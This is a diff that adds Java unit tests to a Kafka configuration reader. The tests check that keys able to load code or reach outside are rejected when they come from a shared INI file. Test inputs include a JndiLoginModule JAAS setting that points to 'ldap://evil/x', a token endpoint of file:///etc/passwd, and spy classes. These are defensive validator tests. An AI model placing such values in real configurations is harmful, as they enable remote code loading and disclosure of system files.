@@ -54,6 +54,53 @@ final class IniFileTest {
     }
 
     @Test
+    void whatCouldLoadCodeIsNotTakenFromAFileThatTravels() throws IOException {
+        var configuration = read("consumer", """
+                [broker]
+                bootstrap.servers = localhost:9092
+                session.timeout.ms = 6000
+                fetch.max.bytes = many
+                interceptor.classes = org.example.Spy
+                config.providers = file
+                sasl.oauthbearer.token.endpoint.url = file:///etc/passwd
+                sasl.jaas.config = com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";
+                ssl.engine.factory.class = org.example.Spy
+                metric.reporters = org.example.Spy
+                [consumer]
+                partition.assignment.strategy = org.example.Spy
+                sasl.client.callback.handler.class = org.example.Spy
+                """, Map.of());
+
+        assertThat(configuration.problems())
+                .filteredOn(Problem::isError)
+                .extracting(Problem::key)
+                .containsExactlyInAnyOrder(
+                        "kafka.fetch.max.bytes",
+                        "kafka.interceptor.classes",
+                        "kafka.config.providers",
+                        "kafka.sasl.oauthbearer.token.endpoint.url",
+                        "kafka.sasl.jaas.config",
+                        "kafka.ssl.engine.factory.class",
+                        "kafka.metric.reporters",
+                        "kafka.partition.assignment.strategy",
+                        "kafka.sasl.client.callback.handler.class");
+        assertThat(configuration.kafka())
+                .containsOnlyKeys("bootstrap.servers", "session.timeout.ms", "auto.offset.reset");
+    }
+
+    @Test
+    void kafkasOwnSignInIsTaken() throws IOException {
+        var configuration = read("consumer", """
+                [broker]
+                bootstrap.servers = localhost:9092
+                sasl.jaas.config = org.apache.kafka.common.security.scram.ScramLoginModule required username="me" password="a b";
+                """, Map.of());
+
+        assertThat(configuration.problems()).isEmpty();
+        assertThat(configuration.kafka()).containsKey("sasl.jaas.config");
+    }
+
+    @Test
     void problemsAreNamedByFileAndLine() throws IOException {
         var configuration = read("producer", """
                 [broker]
